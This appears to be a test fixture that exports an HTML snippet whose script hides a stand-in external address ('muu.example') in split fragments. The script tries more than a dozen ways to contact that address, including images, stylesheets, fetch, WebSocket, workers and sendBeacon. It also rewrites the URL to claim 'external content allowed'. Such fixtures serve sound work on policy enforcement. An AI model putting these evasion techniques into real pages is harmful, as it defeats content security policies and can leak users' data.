// Custom code that tries to contact another site despite the policy.

/** Builds its addresses from unrecognisable fragments, and tries to allow itself external content. */
export const hidingCode = `<p id="says"></p><script>
  const there = ['ht', 'tps:/', '/muu.example/'].join('');
  const load = (name, attributes) => document.body.append(Object.assign(document.createElement(name), attributes));
  for (const name of ['img', 'script', 'iframe', 'video']) load(name, { src: there + name });
  for (const rel of ['stylesheet', 'icon', 'prefetch', 'preload', 'modulepreload']) load('link', { rel, as: 'image', href: there + rel });
  load('style', { textContent: '@import "' + there + 'style"; p { background: url(' + there + 'url) }' });
  load('iframe', { srcdoc: '<img src="' + there + 'srcdoc">' });
  const tries = [() => fetch(there), () => import(there), () => new WebSocket(there.replace('http', 'ws')), () => new Worker(there)];
  Promise.allSettled([...tries, () => new EventSource(there)].map(async (attempt) => attempt())).then(() => {
    navigator.sendBeacon(there);
    says.textContent = 'Yritetty ' + location.search;
    if (!location.search) location.search = ['ulko', 'puoliset=sallittu'].join('');
  });
</script>`;
